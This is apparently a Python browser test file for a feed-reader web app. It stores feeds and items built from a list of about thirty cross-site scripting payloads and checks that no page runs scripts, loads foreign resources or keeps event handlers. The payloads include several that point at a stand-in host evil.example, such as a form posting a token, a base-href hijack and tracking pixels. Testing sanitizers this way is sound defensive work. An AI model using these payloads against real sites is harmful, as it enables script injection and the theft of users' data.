"""Text from strangers runs, loads and breaks nothing on any page, in a real browser."""

from __future__ import annotations

from collections.abc import Awaitable, Callable

from playwright.async_api import Browser

from headwater.errors import HeadwaterError
from headwater.model import Enclosure, Ending, Refresh
from headwater.store.content.feeds import NewFeed
from headwater.store.content.items import list_items
from headwater.store.content.verdicts import save_refreshes
from headwater.store.queries.query_scripts import run_script
from headwater.store.readers.subscriptions import add_and_subscribe
from headwater.store.store import Store
from headwater.web.shared.article_html import clean_for_page
from support.store_samples import a_verdict, an_item

Start = Callable[..., Awaitable[str]]
NOW = 1_800_000_000.0
# After OWASP's cheat sheet and DOMPurify's corpus: breaking out of text, attributes, addresses, styles, SVG, templates.
VECTORS = (
    "<script>window.pwned=1</script>",
    "\"><script>window.pwned=1</script>",
    "'><img src=x onerror=window.pwned=1>",
    "<img src=x onerror=window.pwned=1>",
    "<svg onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.pwned=1&gt;\">",
    "<a href=\"javascript:window.pwned=1\" id=x>click</a>",
    "<a href=\"jav&#x09;ascript:window.pwned=1\">tab</a>",
    "<iframe srcdoc=\"<script>parent.pwned=1</script>\"></iframe>",
    "<iframe src=\"javascript:parent.pwned=1\"></iframe>",
    "<object data=\"data:text/html,<script>parent.pwned=1</script>\"></object>",
    "<embed src=\"//evil.example/x.swf\">",
    "<form action=\"//evil.example/\"><input name=token></form>",
    "<base href=\"//evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=//evil.example/\">",
    "<link rel=stylesheet href=\"//evil.example/x.css\">",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<p style=\"position:fixed;inset:0;background:url(//evil.example/x)\">cover</p>",
    "<input autofocus onfocus=window.pwned=1>",
    "<details open ontoggle=window.pwned=1>",
    "<video><source onerror=window.pwned=1></video>",
    "<body onload=window.pwned=1>",
    "<noscript><p title=\"</noscript><img src=x onerror=window.pwned=1>\">",
    "<template><script>window.pwned=1</script></template>",
    "<img src=\"https://evil.example/pixel.png\" width=1>",
    "<img srcset=\"//evil.example/a 1x\">",
    "{{ 7 * 7 }} {% raw %} ${window.pwned=1}",
    "]]><script>window.pwned=1</script>",
    "\u202egnp.exe \u2028 \x00 end",
)  # fmt: skip
LINKS = ("javascript:window.pwned=1", "data:text/html,<script>window.pwned=1</script>", "vbscript:x", "//evil.example/",
         "https://a.example/\"onmouseover=\"window.pwned=1")  # fmt: skip


BAD = (
    "a[href^='javascript:'], a[href^='data:'], a[href^='vbscript:'], iframe, object, embed, base, "
    "form:not([action^='/'])"
)
HANDLERS = """[...document.querySelectorAll('*')].flatMap(one => one.getAttributeNames())
    .filter(name => name.startsWith('on')).length"""


async def hostile(store: Store) -> int:
    """Store a feed and items that consist of attacks; return the number of items."""
    vectors = list(VECTORS)
    feeds = [NewFeed(f"https://h{k}.example/f", title=one, tags=(one[:80],)) for k, one in enumerate(vectors[:6])]
    (first, *_) = [added.feed for added in await store.write(add_and_subscribe, feeds, NOW)]
    items = [
        an_item(
            first.id,
            vector,
            title=vector,
            authors=(vector,),
            categories=(vector,),
            content=vector,
            summary=vector,
            link=LINKS[k % len(LINKS)],
            enclosures=(Enclosure(LINKS[k % len(LINKS)], type=vector),),
            language=vector[:30],
            published=NOW - 60 - k,
            first_seen=NOW - 30,
        )
        for k, vector in enumerate(vectors)
    ]
    refresh = Refresh(first.id, NOW - 10, Ending.UNREADABLE, message=vectors[0], reason=vectors[3])
    await save_refreshes(store, [a_verdict(first, *items, at=NOW - 20, link=LINKS[0])])
    await save_refreshes(store, [a_verdict(first, at=NOW - 10, refresh=refresh)])
    return len(items)


async def test_nothing_that_publishers_write_runs_loads_or_breaks_out(
    site: Start, web_store: Store, browser: Browser
) -> None:
    number = await hostile(web_store)
    await web_store.write(run_script, 'CREATE FEED X AS RETURN ALL WHERE ITEM CONTAINS "script"', NOW)
    base = await site()
    page = await browser.new_page()
    foreign: list[str] = []
    dialogs: list[str] = []
    page.on("request", lambda request: request.url.startswith(base) or foreign.append(request.url))
    page.on("dialog", lambda dialog: dialogs.append(dialog.message))
    items = await web_store.read(list_items, limit=number)
    paths = ["/", "/feeds", "/feed/1", "/status", "/discover", "/settings", "/queries/new?example=0",
             "/read/search?q=script",
             "/read/search?q=%3Cscript%3Ewindow.pwned%3D1%3C%2Fscript%3E", "/feeds?find=%22%3E%3Cscript%3E&tag=%3Cb%3E",
             "/queries/new?text=%3C%2Ftextarea%3E%3Cscript%3Ewindow.pwned%3D1%3C%2Fscript%3E"]  # fmt: skip
    for path in [*paths, *(f"/read/all?item={item.id}" for item in items)]:
        answer = await page.goto(base + path)
        assert answer is not None
        assert answer.status == 200, path
        assert await page.evaluate("window.pwned") is None, path
        scripts = await page.evaluate("[...document.scripts].filter(s => !s.src.startsWith(location.origin)).length")
        assert scripts == 0, path
        assert await page.locator(BAD).count() == 0, path
        assert await page.evaluate(HANDLERS) == 0, path
    assert (foreign, dialogs) == ([], [])


def test_shown_content_has_no_picture_of_another_host_and_keeps_the_text() -> None:
    html = clean_for_page(
        '<p>Text <img src="https://a.example/x.png" alt="x"> <b>bold</b></p>', lambda url: f"/picture?u={len(url)}"
    )
    assert "https://a.example" not in html
    assert 'loading="lazy"' in html
    assert "<b>bold</b>" in html
    assert "<img" in clean_for_page('<img src="https://a.example/x.png">', lambda url: None)
    assert "src=" not in clean_for_page('<img src="https://a.example/x.png">', lambda url: None)


def test_shown_content_keeps_formulas() -> None:
    formula = '<p>So <math display="block"><mi>x</mi><mo>=</mo><mn>1</mn></math></p>'
    assert clean_for_page(formula, lambda url: None) == formula


def test_footnotes_files_and_nothing_else_is_linked_inside_the_page() -> None:
    shown = clean_for_page(
        '<a href="#hw-fn1">1</a><p id="hw-fn1">note</p><a href="#login">x</a><p id="login">y</p>'
        '<video src="https://a.example/v.mp4" controls=""></video>',
        lambda url: None,
    )
    assert '<a href="#hw-fn1"' in shown
    assert '<p id="hw-fn1">' in shown
    assert "login" not in shown
    assert '<a href="https://a.example/v.mp4"' in shown


async def test_query_names_and_texts_cannot_carry_markup(web_store: Store) -> None:
    for vector in VECTORS[:8]:
        try:
            await web_store.write(run_script, f"CREATE FEED {vector} AS RETURN ALL", NOW)
        except HeadwaterError:
            continue
        raise AssertionError(f"taken as a name: {vector}")
